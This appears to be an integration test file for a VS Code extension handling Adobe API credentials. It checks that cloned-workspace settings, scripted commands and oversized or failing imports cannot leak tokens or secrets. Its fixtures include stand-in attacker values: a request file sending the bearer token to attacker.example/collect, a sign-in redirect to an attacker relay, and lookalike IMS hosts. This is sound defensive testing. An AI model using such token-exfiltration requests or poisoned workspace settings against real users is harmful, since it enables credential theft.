/**
 * Issue #8, defects 1, 4 and 8 inside the real VS Code: a workspace cannot turn on the token in
 * terminals, scripted commands cannot move the client secret without the user's confirmation, and
 * credential imports are capped in size and stored all or nothing.
 */
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { TestApi } from '../../src/extension';
import { activateExtension, checkSetupFindings, probesOf, emulatorControl, emulatorUrl, rejection, withSetting } from './helpers';

const run = <T>(command: string, args?: unknown) => Promise.resolve(vscode.commands.executeCommand<T>(command, args));
const PROFILE = 'Guarded';
const SENTINEL = 'editor.tabSize';

/** Resolves once `key` reads `value`: a settings file written behind VS Code's back has been picked up. */
function settingBecomes(key: string, value: unknown): Promise<void> {
	if (vscode.workspace.getConfiguration().get(key) === value) return Promise.resolve();
	return new Promise((resolve) => {
		const listener = vscode.workspace.onDidChangeConfiguration((event) => {
			if (event.affectsConfiguration(key) && vscode.workspace.getConfiguration().get(key) === value) {
				listener.dispose();
				resolve();
			}
		});
	});
}

/** The workspace's .vscode/settings.json, written as a cloned repository ships it, and put back afterwards. */
function workspaceSettingsFile() {
	const folder = vscode.workspace.workspaceFolders?.[0]?.uri.fsPath;
	assert.ok(folder, 'the integration suite runs with a workspace folder open');
	const file = path.join(folder, '.vscode', 'settings.json');
	const previous = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : undefined;
	const sentinelBefore = vscode.workspace.getConfiguration().get(SENTINEL);
	return {
		/** Writes `values`, and resolves once VS Code has read them (SENTINEL reads `marker`). */
		async write(values: Record<string, unknown>, marker: number): Promise<void> {
			assert.notEqual(sentinelBefore, marker);
			const picked = settingBecomes(SENTINEL, marker);
			fs.mkdirSync(path.dirname(file), { recursive: true });
			fs.writeFileSync(file, JSON.stringify({ ...values, [SENTINEL]: marker }));
			await picked;
		},
		async restore(): Promise<void> {
			const restored = settingBecomes(SENTINEL, sentinelBefore);
			if (previous === undefined) fs.rmSync(file, { force: true });
			else fs.writeFileSync(file, previous);
			await restored;
		},
	};
}

describe('workspace and scripted hardening', () => {
	let api: TestApi;
	let demo: { clientId: string; clientSecret: string };
	const profile = () => api.services.profiles.find(PROFILE) ?? assert.fail(`no profile ${PROFILE}`);

	before(async () => {
		({ api } = await activateExtension());
		await api.services.profiles.ready();
		demo = (await emulatorControl<{ clients: { demo: { clientId: string; clientSecret: string } } }>('GET', 'info')).clients.demo;
		if (api.services.profiles.find(PROFILE)) await run('adobeApi.removeProfile', { profile: PROFILE });
		await run('adobeApi.addProfile', { name: PROFILE, apiKind: 'photoshop', clientId: demo.clientId, clientSecret: demo.clientSecret });
		await run('adobeApi.selectProfile', { profile: PROFILE });
		await run('adobeApi.generateToken', { profile: PROFILE });
	});
	after(() => run('adobeApi.removeProfile', { profile: PROFILE }));

	describe('the token in terminals', () => {
		let settings: ReturnType<typeof workspaceSettingsFile>;

		before(() => {
			settings = workspaceSettingsFile();
		});
		after(async () => {
			await settings.restore();
			await run('adobeApi.injectTokenInTerminal', { enabled: false });
		});

		it('cannot be turned on by a workspace, and the toggle reports what terminals really get', async () => {
			await withSetting('adobeApi.injectTokenInTerminal', false, async () => {
				const config = vscode.workspace.getConfiguration('adobeApi');
				const written = await Promise.resolve(config.update('injectTokenInTerminal', true, vscode.ConfigurationTarget.Workspace)).then(
					() => true,
					() => false,
				);
				// VS Code refuses to write an application-scoped setting to the workspace; a cloned repository just ships the file.
				if (!written) await settings.write({ 'adobeApi.injectTokenInTerminal': true }, 7);
				await api.terminal.update();
				assert.deepEqual(api.terminal.injected, [], 'the workspace value put the token into new terminals');

				// The toggle without arguments, as from the palette: on, then off, each time what terminals get.
				assert.deepEqual(await run('adobeApi.injectTokenInTerminal'), { enabled: true });
				await api.terminal.update();
				assert.deepEqual(api.terminal.injected, ['PS_FF_SERVICES_CLIENT_ID', 'PS_FF_SERVICES_ACCESS_TOKEN']);
				assert.deepEqual(await run('adobeApi.injectTokenInTerminal'), { enabled: false });
				await api.terminal.update();
				assert.deepEqual(api.terminal.injected, [], 'the toggle said off, yet the workspace value still won');
			});
		});
	});

	it('ignores a workspace request timeout (a cloned repository cannot stretch or shrink it)', async () => {
		const settings = workspaceSettingsFile();
		try {
			await settings.write({ 'adobeApi.requestTimeoutSeconds': 1 }, 9);
			await emulatorControl('POST', 'faults', { route: 'photoshop.status', fault: { type: 'latency', ms: 1500 }, times: 1 });
			const results = probesOf(await checkSetupFindings());
			const photoshop = results.find((r) => r.target === 'photoshopV2');
			assert.equal(photoshop?.reachable, true, `the workspace's 1 s timeout applied: ${photoshop?.message}`);
		} finally {
			await emulatorControl('DELETE', 'faults');
			await settings.restore();
		}
	});

	it("ignores a workspace's sign-in settings (a cloned repository cannot reroute a sign-in through its own relay or client)", async () => {
		const settings = workspaceSettingsFile();
		try {
			await settings.write(
				{ 'adobeApi.signIn.redirectUri': 'https://relay.attacker.example/redirect', 'adobeApi.signIn.clientId': 'attackerclient0001' },
				11,
			);
			await emulatorControl('POST', 'reset');
			const result = await run<{ account: string }>('adobeApi.signIn', {});
			const [authorize] = (
				await emulatorControl<{ requests: Array<{ route: string; query: Record<string, string> }> }>('GET', 'requests?route=ims.authorize')
			).requests;
			assert.match(authorize.query.redirect_uri, /^https:\/\/127\.0\.0\.1:\d+\/redirect$/);
			assert.notEqual(authorize.query.client_id, 'attackerclient0001');
			await run('adobeApi.signOut', { account: result.account });
		} finally {
			await settings.restore();
		}
	});

	it('ignores origins a workspace approves for request files (a cloned repository cannot send the token to its own host)', async () => {
		const settings = workspaceSettingsFile();
		const folder = vscode.workspace.workspaceFolders![0].uri.fsPath;
		const file = path.join(folder, 'workspace-approved.http');
		try {
			await settings.write({ 'adobeApi.requests.approvedOrigins': ['https://attacker.example'] }, 13);
			fs.writeFileSync(file, 'GET https://attacker.example/collect\nAuthorization: Bearer {{$adobeToken}}\n');
			const refused = await rejection(run('adobeApi.sendRequest', { uri: vscode.Uri.file(file).toString() }));
			assert.match(refused.message, /Not sent: the request goes to attacker\.example/);
		} finally {
			fs.rmSync(file, { force: true });
			await settings.restore();
		}
	});

	describe('scripted commands and the client secret', () => {
		it('gets no answer from a modal dialog in this host (so every confirmation below is declined)', async () => {
			const answer = await Promise.resolve(
				vscode.window.showWarningMessage('Adobe API Toolkit test: confirm?', { modal: true }, 'Yes'),
			).then(
				(choice) => choice,
				() => undefined,
			);
			assert.equal(answer, undefined);
		});

		it('refuses a scripted edit that points IMS at a host the user has not approved, and changes nothing', async () => {
			const before = { ...profile() };
			const tokenBefore = api.services.tokens.snapshot(before.id).token?.accessToken;
			assert.ok(tokenBefore);
			const refusals: Array<[Record<string, unknown>, string]> = [
				[{ imsBaseUrl: 'https://attacker.example' }, 'attacker.example'],
				[
					{ imsEnvironment: 'custom', imsBaseUrl: 'https://ims-na1.adobelogin.com.attacker.example/ims' },
					'ims-na1.adobelogin.com.attacker.example',
				],
				[{ imsBaseUrl: 'http://127.0.0.1:9' }, '127.0.0.1:9'],
			];
			for (const [change, host] of refusals) {
				await assert.rejects(run('adobeApi.editProfile', { profile: PROFILE, ...change }), {
					message: `imsBaseUrl: profile "${PROFILE}" was not saved with IMS at ${host}: this needs your confirmation, and it was not given.`,
				});
			}
			assert.deepEqual(profile(), before);
			assert.deepEqual(
				(JSON.parse((await api.services.keychain.get('profiles')) ?? '{}') as { profiles: unknown[] }).profiles.find(
					(p) => (p as { id: string }).id === before.id,
				),
				before,
			);
			assert.equal(api.services.tokens.snapshot(before.id).token?.accessToken, tokenBefore, 'the token was kept');
		});

		it('refuses a scripted new profile with an unapproved IMS host, and adds nothing', async () => {
			const count = api.services.profiles.list().length;
			await assert.rejects(
				run('adobeApi.addProfile', {
					name: 'Phished',
					apiKind: 'custom',
					clientId: demo.clientId,
					clientSecret: demo.clientSecret,
					imsBaseUrl: 'https://attacker.example',
				}),
				{
					message:
						'imsBaseUrl: profile "Phished" was not saved with IMS at attacker.example: this needs your confirmation, and it was not given.',
				},
			);
			assert.equal(api.services.profiles.list().length, count);
			assert.equal(api.services.profiles.find('Phished'), undefined);
		});

		it("accepts Adobe's stage IMS and the user's own adobeApi.imsBaseUrl (the emulator) without asking", async () => {
			assert.deepEqual(await run('adobeApi.editProfile', { profile: PROFILE, imsEnvironment: 'stage' }), { name: PROFILE });
			assert.equal(profile().imsEnvironment, 'stage');
			assert.deepEqual(await run('adobeApi.editProfile', { profile: PROFILE, imsBaseUrl: `${emulatorUrl()}/` }), { name: PROFILE });
			assert.deepEqual([profile().imsEnvironment, profile().imsBaseUrl], ['custom', emulatorUrl()]);
			await run('adobeApi.generateToken', { profile: PROFILE });
			await run('adobeApi.editProfile', { profile: PROFILE, imsEnvironment: 'production' });
			assert.equal(profile().imsEnvironment, 'production');
		});

		it('does not copy the secret for a scripted copyEnvExports without confirmation', async () => {
			await vscode.env.clipboard.writeText('clipboard before');
			await assert.rejects(run('adobeApi.copyEnvExports', { profile: PROFILE, includeSecret: true }), {
				message: `The Client Secret of "${PROFILE}" was not copied: this needs your confirmation, and it was not given.`,
			});
			assert.equal(await vscode.env.clipboard.readText(), 'clipboard before');
			const { variables } = await run<{ variables: string[] }>('adobeApi.copyEnvExports', { profile: PROFILE, includeSecret: false });
			assert.ok(!variables.includes('PS_FF_SERVICES_CLIENT_SECRET'));
			assert.ok(!(await vscode.env.clipboard.readText()).includes(demo.clientSecret));
		});
	});

	describe('when the user confirms', () => {
		const asked: string[] = [];
		let realConfirm: TestApi['services']['confirm'];
		before(() => {
			realConfirm = api.services.confirm;
			api.services.confirm = async (message) => {
				asked.push(message);
				return true;
			};
		});
		after(() => {
			api.services.confirm = realConfirm;
		});

		it('saves a scripted IMS host the user approved, after asking about exactly that host', async () => {
			asked.length = 0;
			assert.deepEqual(await run('adobeApi.editProfile', { profile: PROFILE, imsBaseUrl: 'https://ims.example.test' }), { name: PROFILE });
			assert.deepEqual(asked, [`Send the Client Secret of "${PROFILE}" to ims.example.test?`]);
			assert.deepEqual([profile().imsEnvironment, profile().imsBaseUrl], ['custom', 'https://ims.example.test']);
			await run('adobeApi.editProfile', { profile: PROFILE, imsEnvironment: 'production' });
			assert.equal(profile().imsEnvironment, 'production');
		});

		it('copies the secret for a scripted copyEnvExports the user approved', async () => {
			asked.length = 0;
			const { variables } = await run<{ variables: string[] }>('adobeApi.copyEnvExports', { profile: PROFILE, includeSecret: true });
			assert.deepEqual(asked, [`Copy the Client Secret of "${PROFILE}" to the clipboard?`]);
			assert.ok(variables.includes('PS_FF_SERVICES_CLIENT_SECRET'));
			assert.ok((await vscode.env.clipboard.readText()).includes(demo.clientSecret));
			await vscode.env.clipboard.writeText('');
		});

		it('turns terminal injection on for a script the user approved', async () => {
			asked.length = 0;
			await withSetting('adobeApi.injectTokenInTerminal', false, async () => {
				assert.deepEqual(await run('adobeApi.injectTokenInTerminal', { enabled: true }), { enabled: true });
				assert.deepEqual(asked, ['Give new terminals your Adobe access token?']);
				await api.terminal.update();
				assert.deepEqual(api.terminal.injected, ['PS_FF_SERVICES_CLIENT_ID', 'PS_FF_SERVICES_ACCESS_TOKEN']);
			});
		});
	});

	describe('credential import', () => {
		const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'adobe-import-hardening-'));
		const names = () => api.services.profiles.list().map((p) => p.name);
		const profileId = (name: string) => api.services.profiles.find(name)?.id ?? assert.fail(`no profile ${name}`);
		const credentialJson = (title: string, credentials: string[]) =>
			JSON.stringify({
				project: {
					title,
					workspace: {
						details: {
							credentials: credentials.map((name) => ({
								name,
								integration_type: 'oauth_server_to_server',
								oauth_server_to_server: {
									client_id: demo.clientId,
									client_secrets: [demo.clientSecret],
									scopes: ['openid', 'AdobeID', 'read_organizations'],
								},
							})),
						},
					},
				},
			});
		after(() => fs.rmSync(dir, { recursive: true, force: true }));

		it('refuses a file over 1 MB by its size, before reading it', async () => {
			const before = names();
			const huge = path.join(dir, 'huge.env');
			fs.closeSync(fs.openSync(huge, 'w'));
			fs.truncateSync(huge, 200 * 1024 * 1024); // sparse: 200 MB on paper, nothing on disk
			await assert.rejects(run('adobeApi.importProfile', { path: huge }), {
				message:
					'huge.env is 200.0 MB; a credential file (Developer Console JSON or .env) is at most 1 MB. Choose the file you downloaded from the Developer Console.',
			});
			// 1.5 MB of invalid UTF-8 would decode to 4.5 MB of replacement characters: "1.5 MB" is the size on disk, checked before reading.
			const binary = path.join(dir, 'binary.json');
			fs.writeFileSync(binary, Buffer.alloc(1.5 * 1024 * 1024, 0xff));
			await assert.rejects(run('adobeApi.importProfile', { path: binary }), { message: /^binary\.json is 1\.5 MB; a credential file/ });
			await assert.rejects(run('adobeApi.importProfile', { content: ' '.repeat(1024 * 1024 + 1), fileName: 'pasted.env' }), {
				message: /^pasted\.env is 1\.0 MB; a credential file/,
			});
			assert.deepEqual(names(), before);
		});

		it('fits long Developer Console titles into unique names, and names the file and credential in an error', async () => {
			const title = 'Acme Corporation Global Brand Automation Platform for Marketing Operations 2026';
			const credentials = [
				'Production server-to-server credential for the image pipeline A',
				'Production server-to-server credential for the image pipeline B',
			];
			const result = await run<{ names: string[]; skipped: string[] }>('adobeApi.importProfile', {
				content: credentialJson(title, credentials),
				fileName: 'long.json',
			});
			assert.equal(result.names.length, 2);
			assert.equal(new Set(result.names.map((n) => n.toLowerCase())).size, 2);
			for (const name of result.names) {
				assert.ok(name.length <= 64, `${name} has ${name.length} characters`);
				assert.ok(api.services.profiles.find(name));
			}
			await assert.rejects(
				run('adobeApi.importProfile', { content: credentialJson('Short', ['One']), fileName: 'named.json', name: 'n'.repeat(65) }),
				{
					message: 'named.json, credential "Short / One": name: A profile name has at most 64 characters.',
				},
			);
			for (const name of result.names) await run('adobeApi.removeProfile', { profile: name });
		});

		it('imports a .env with an unrelated _CLIENT_ID, and says what it skipped', async () => {
			const content = `FOO_CLIENT_ID=not-adobe\nPS_FF_SERVICES_CLIENT_ID=${demo.clientId}\nPS_FF_SERVICES_CLIENT_SECRET="${demo.clientSecret}"\n`;
			const result = await run<{ names: string[]; skipped: string[] }>('adobeApi.importProfile', {
				content,
				fileName: 'mixed.env',
				name: 'Mixed env',
			});
			assert.deepEqual(result, {
				names: ['Mixed env'],
				skipped: ["mixed.env, line 1: FOO_CLIENT_ID is not one of Adobe's variable names."],
				active: api.services.profiles.active()?.name,
			});
			assert.equal(
				(await api.services.profiles.credential(profileId('Mixed env'))).clientSecret,
				demo.clientSecret,
				'the quotes are not part of the secret',
			);
			assert.ok(
				api
					.logLines()
					.some((line) => line.includes("not imported: mixed.env, line 1: FOO_CLIENT_ID is not one of Adobe's variable names.")),
			);
			await run('adobeApi.removeProfile', { profile: 'Mixed env' });
		});

		it('stores all credentials of an import or none when secret storage fails half-way', async () => {
			const keychain = api.services.keychain;
			const content = credentialJson('Atomic', ['One', 'Two', 'Three']);
			for (const failingWrite of ['second credential', 'index'] as const) {
				const before = names();
				const indexBefore = await keychain.get('profiles');
				const credentialKeys: string[] = [];
				keychain.store = async function (this: typeof keychain, key: string, value: string) {
					if (key.endsWith('.credential')) credentialKeys.push(key);
					const fail = failingWrite === 'index' ? key === 'profiles' : credentialKeys.length === 2 && key.endsWith('.credential');
					if (fail) throw new Error(`Could not save "${key}" in VS Code's secret storage. See the Adobe API Toolkit log.`);
					return Object.getPrototypeOf(keychain).store.call(this, key, value);
				};
				try {
					await assert.rejects(run('adobeApi.importProfile', { content, fileName: 'atomic.json' }), {
						message: /^Could not save "(profile\..+\.credential|profiles)" in VS Code's secret storage/,
					});
				} finally {
					delete (keychain as Partial<typeof keychain>).store;
				}
				assert.equal(credentialKeys.length, failingWrite === 'index' ? 3 : 2, failingWrite);
				assert.deepEqual(names(), before, `a failing ${failingWrite} left profiles behind`);
				assert.equal(await keychain.get('profiles'), indexBefore);
				for (const key of credentialKeys) {
					assert.equal(await keychain.get(key), undefined, `${key} was left in secret storage (${failingWrite})`);
				}
			}
			assert.deepEqual((await run<{ names: string[] }>('adobeApi.importProfile', { content, fileName: 'atomic.json' })).names, [
				'Atomic / One',
				'Atomic / Two',
				'Atomic / Three',
			]);
			for (const name of ['Atomic / One', 'Atomic / Two', 'Atomic / Three']) await run('adobeApi.removeProfile', { profile: name });
		});
	});
});
